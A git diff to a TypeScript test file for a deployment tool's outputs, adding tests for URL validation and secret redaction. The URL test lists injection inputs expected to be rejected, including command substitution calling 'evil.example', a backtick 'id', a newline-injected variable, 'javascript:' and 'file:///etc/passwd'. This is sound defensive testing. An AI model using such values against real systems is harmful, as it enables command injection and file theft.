@@ -2,7 +2,9 @@
 
 import { describe, expect, test } from 'vitest';
 import { combineFailures, endpointOutputs, openOutputs, outcomeOutputs } from '../../src/commands/outputs.ts';
+import { openEdge } from '../../src/edge.ts';
 import { DeployError } from '../../src/errors.ts';
+import { createRedactor } from '../../src/http/redactor.ts';
 import type { Outputs } from '../../src/report.ts';
 import type { Outcome } from '../../src/rollout/rollout.ts';
 import { endpoint, lastOutputs, recordReport } from './scene.ts';
@@ -32,6 +34,7 @@ describe('an output', () => {
   test('that cannot be written is the last one, and nobody else is disturbed', () => {
     const written: string[] = [];
     const outputs = openOutputs({
+      ...recordReport().reporter,
       setOutput: (name) => {
         if (name === 'name') throw new Error('EACCES: permission denied');
         written.push(name);
@@ -43,7 +46,7 @@ describe('an output', () => {
     outputs.finish(undefined);
     expect(written).toEqual(['url', 'endpoint-id']);
     expect(outputs.failure()).toMatchObject({
-      code: 'internal',
+      code: 'github',
       message: 'the output `name` could not be written: EACCES: permission denied',
     });
   });
@@ -51,9 +54,9 @@ describe('an output', () => {
 
 describe('the end', () => {
   test.for<[string, Outputs, DeployError | undefined, string[]]>([
-    ['of a success that wrote nothing', {}, undefined, ['changed=false', 'failure-reason=']],
-    ['of a failure', { changed: 'true' }, failure, ['failure-reason=timeout']],
-    ['of what was said to be unchanged', { changed: 'false' }, undefined, ['failure-reason=']],
+    ['of a success that wrote nothing', {}, undefined, ['changed=false', 'failure-reason=', 'endpoints=[]']],
+    ['of a failure', { changed: 'true' }, failure, ['failure-reason=timeout', 'endpoints=[]']],
+    ['of what was said to be unchanged', { changed: 'false' }, undefined, ['failure-reason=', 'endpoints=[]']],
   ])('%s', ([, known, ended, expected]) => {
     const { outputs, writes } = open();
     outputs.set(known);
@@ -71,7 +74,7 @@ describe('the end', () => {
     expect(lastOutputs(writes())).toEqual({
       name: '',
       url: '',
-      endpoints: '',
+      endpoints: '[]',
       operation: 'deleted',
       changed: 'false',
       'failure-reason': '',
@@ -85,9 +88,18 @@ describe('one endpoint', () => {
     outputs.setEndpoints([{ name: 'a' }]);
     outputs.setEndpoint(0, { 'endpoint-id': 'e1', changed: 'true' });
     outputs.setEndpoint(0, { 'failure-reason': 'timeout' });
-    expect(writes()).toEqual(['name=a', 'endpoint-id=e1', 'changed=true', 'failure-reason=timeout']);
+    expect(writes()).toEqual([
+      'name=a',
+      'endpoints=[{"name":"a"}]',
+      'endpoint-id=e1',
+      'changed=true',
+      'endpoints=[{"name":"a","endpoint-id":"e1","changed":"true"}]',
+      'failure-reason=timeout',
+    ]);
     outputs.finish(failure);
-    expect(writes()).toEqual([]);
+    expect(writes()).toEqual([
+      'endpoints=[{"name":"a","endpoint-id":"e1","changed":"true","failure-reason":"timeout"}]',
+    ]);
   });
 
   test('of none is nothing', () => {
@@ -242,4 +254,66 @@ describe('an outcome', () => {
   test('says nothing of an endpoint that is not there', () => {
     expect(endpointOutputs(undefined)).toEqual({});
   });
+});
+
+describe('what the service says', () => {
+  const addresses: readonly [string, string][] = [
+    ['https://e1-llama.runsync.example.dev', 'https://e1-llama.runsync.example.dev'],
+    ['http://127.0.0.1:8080/serve/e1?x=1&y=%20#z', 'http://127.0.0.1:8080/serve/e1?x=1&y=%20#z'],
+    ['', ''],
+    ...[
+      'javascript:alert(1)',
+      'https://a.example/\nINJECTED=1',
+      'https://a.example/$(curl evil.example)',
+      'https://a.example/`id`',
+      'https://a.example/ b',
+      'https://a.example/"b"',
+      "https://a.example/'b'",
+      'https://a.example/<b>',
+      'https://user:pass@a.example',
+      'https://',
+      'a.example',
+      'file:///etc/passwd',
+      `https://a.example/${'a'.repeat(3000)}`,
+    ].map((url): [string, string] => [url, '']),
+  ];
+  test.for(addresses)('in %j as a URL is %j', ([said, url]) => {
+    const { reporter, outputWrites, annotations } = recordReport();
+    openOutputs(reporter).set({ url: said });
+    expect(outputWrites).toEqual([`url=${url}`]);
+    expect(annotations.map(({ severity, title }) => `${severity} ${title}`)).toEqual(
+      said === url ? [] : ['warning output url'],
+    );
+  });
+
+  test('as a state is one line without a secret, and no word of a state is one', () => {
+    const { reporter, outputWrites } = recordReport();
+    const edge = openEdge(reporter, createRedactor());
+    edge.mask('sk-live-12345', 'api-key');
+    edge.conceal('serving');
+    const outputs = openOutputs(edge);
+    outputs.setEndpoints([{ state: 'serving' }, { state: 'failed: Bearer sk-live-12345\u0000' }]);
+    expect(lastOutputs(outputWrites).state).toBe('serving');
+    outputs.setEndpoint(0, { state: `sk-live-12345${'x'.repeat(500)}` });
+    outputs.finish(undefined);
+    expect(outputWrites.join('\n')).not.toContain('12345');
+    expect(lastOutputs(outputWrites).state).toBe(`***${'x'.repeat(196)}…`);
+    expect(lastOutputs(outputWrites).endpoints).toContain('"failed: Bearer ***"');
+  });
+});
+
+test('a mask that takes an output away is warned of by its key, once', () => {
+  const { reporter, annotations } = recordReport();
+  const edge = openEdge(reporter, createRedactor());
+  edge.mask('llama', 'secret-envs MODEL');
+  const outputs = openOutputs(edge);
+  outputs.set({ name: 'llama', url: 'https://llama.example' });
+  outputs.set({ name: 'llama-2', url: 'https://llama.example' });
+  expect(annotations.map(({ title, message }) => [title, message]).toReversed()).toEqual([
+    [
+      'output url',
+      'The value of `secret-envs MODEL` stands in the output `url`: the runner shows `***` there, and hands no job output on that holds it.',
+    ],
+    ['output name', expect.stringMatching(/^The value of `secret-envs MODEL` stands in the output `name`/)],
+  ]);
 });
